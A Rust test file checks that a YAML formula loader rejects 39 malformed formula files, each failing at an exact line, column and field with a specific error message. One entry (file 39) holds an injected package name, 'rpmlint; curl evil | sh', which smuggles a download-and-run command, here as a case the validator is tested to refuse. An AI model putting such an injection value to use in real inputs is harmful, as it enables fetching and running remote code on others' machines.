//! The malformed-formula corpus: each file under `tests/malformed/` must fail to load with an error
//! at exactly this `LINE:COL: FIELD`, and the message must name the file.

use std::path::Path;

const EXPECTED: &[(&str, &str, &str)] = &[
    (
        "01-bad-yaml.yml",
        "4:1: (yaml)",
        "invalid YAML: while parsing a flow s",
    ),
    (
        "02-not-a-mapping.yml",
        "1:1: (top level)",
        "a formula is a mapping of keys (name",
    ),
    (
        "03-missing-actions.yml",
        "1:1: actions",
        "missing required key `actions` (the",
    ),
    (
        "04-missing-name.yml",
        "1:1: name",
        "missing required key `name`",
    ),
    (
        "05-actions-not-list.yml",
        "3:3: actions",
        "must be a list of steps, found a map",
    ),
    ("06-empty-actions.yml", "2:10: actions", "has no steps"),
    (
        "07-two-directives.yml",
        "4:5: actions[0].python",
        "a step has exactly one directive; th",
    ),
    (
        "08-unknown-directive.yml",
        "4:5: actions[0].bash",
        "unknown directive `bash` (known: she",
    ),
    (
        "09-no-directive.yml",
        "3:5: actions[0]",
        "the step has no directive (one of: s",
    ),
    (
        "10-step-not-mapping.yml",
        "3:5: actions[0]",
        "a step is a mapping with one directi",
    ),
    (
        "11-shell-not-list.yml",
        "3:12: actions[0].shell",
        "`shell` takes a list of commands, fo",
    ),
    (
        "12-shell-empty.yml",
        "3:12: actions[0].shell",
        "`shell` has no commands",
    ),
    (
        "13-shell-bad-item.yml",
        "4:9: actions[0].shell[0]",
        "a command must be a string, found a",
    ),
    (
        "14-ignorereturn-bad.yml",
        "4:23: actions[0].shell[0].ignorereturn",
        "must be a command or a non-empty lis",
    ),
    (
        "15-unquoted-colon.yml",
        "4:9: actions[0].shell[0]",
        "a mapping in `shell` must be exactly",
    ),
    (
        "16-python-missing-callable.yml",
        "4:7: actions[0].python.callable",
        "missing required parameter `callable",
    ),
    (
        "17-python-not-mapping.yml",
        "3:13: actions[0].python",
        "the parameters of `python` are a map",
    ),
    (
        "18-python-file-type.yml",
        "4:13: actions[0].python.file",
        "must be a string, found a list",
    ),
    (
        "19-resultsdb-both.yml",
        "5:7: actions[0].resultsdb.file",
        "`resultsdb` takes exactly one of: re",
    ),
    (
        "20-resultsdb-none.yml",
        "3:16: actions[0].resultsdb",
        "`resultsdb` needs exactly one of: re",
    ),
    (
        "21-exitcode-unknown-param.yml",
        "4:7: actions[0].exitcode.result_best",
        "unknown parameter of `exitcode` (kno",
    ),
    (
        "22-xunit-missing-file.yml",
        "3:12: actions[0].xunit.file",
        "missing required parameter `file` of",
    ),
    (
        "23-xunit-bad-aggregation.yml",
        "3:71: actions[0].xunit.aggregation",
        "`most` is not one of: allpass, none",
    ),
    (
        "24-dummy-missing-result.yml",
        "3:12: actions[0].dummy.result",
        "missing required parameter `result`",
    ),
    (
        "25-koji-bad-action.yml",
        "4:15: actions[0].koji.action",
        "`upload` is not one of: download, do",
    ),
    (
        "26-koji-src-type.yml",
        "5:12: actions[0].koji.src",
        "must be true or false, found a strin",
    ),
    (
        "27-export-not-identifier.yml",
        "4:13: actions[0].export",
        "`my-var` is not a variable name (let",
    ),
    (
        "28-input-args-not-list.yml",
        "3:9: input.args",
        "must be a list of names, found a str",
    ),
    (
        "29-input-unknown-key.yml",
        "3:3: input.arguments",
        "unknown key (known: args)",
    ),
    (
        "30-scheduling-run-type.yml",
        "3:8: scheduling.run",
        "must be true or false, found a strin",
    ),
    (
        "31-unknown-top-level.yml",
        "2:1: actoins",
        "unknown top-level key (known: name,",
    ),
    (
        "32-actions-and-task.yml",
        "4:1: task",
        "`task` is the old name of `actions`:",
    ),
    (
        "33-name-not-string.yml",
        "1:7: name",
        "must be a string, found a list",
    ),
    (
        "34-maintainer-bad.yml",
        "2:13: maintainer",
        "must be a list of strings, found a m",
    ),
    (
        "35-environment-rpm-type.yml",
        "3:8: environment.rpm",
        "must be a list of strings, found a s",
    ),
    (
        "36-input-arg-not-name.yml",
        "3:10: input.args[0]",
        "`koji-build` is not a variable name",
    ),
    (
        "37-mash-missing-rpmdir.yml",
        "3:11: actions[0].mash.rpmdir",
        "missing required parameter `rpmdir`",
    ),
    (
        "38-bad-indentation.yml",
        "5:4: (yaml)",
        "invalid YAML: while parsing a block",
    ),
    (
        "39-environment-rpm-not-a-name.yml",
        "5:7: environment.rpm[1]",
        "`rpmlint; curl evil | sh` is not a pa",
    ),
];

#[test]
fn every_malformed_formula_fails_at_its_exact_location() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/malformed");
    let mut files: Vec<String> = std::fs::read_dir(&dir)
        .expect("corpus dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".yml"))
        .collect();
    files.sort();
    let listed: Vec<&str> = EXPECTED.iter().map(|(f, _, _)| *f).collect();
    assert_eq!(
        files, listed,
        "every corpus file has exactly one expectation"
    );
    assert!(files.len() >= 30);
    for (file, location, message) in EXPECTED {
        let path = dir.join(file);
        let err = minion_formula::load_formula(&path).expect_err(file);
        assert_eq!(err.location(), *location, "{file}: {err}");
        assert!(err.message.starts_with(message), "{file}: {err}");
        assert!(
            err.to_string()
                .starts_with(&format!("{}:{location}: ", path.display())),
            "{err}"
        );
    }
}
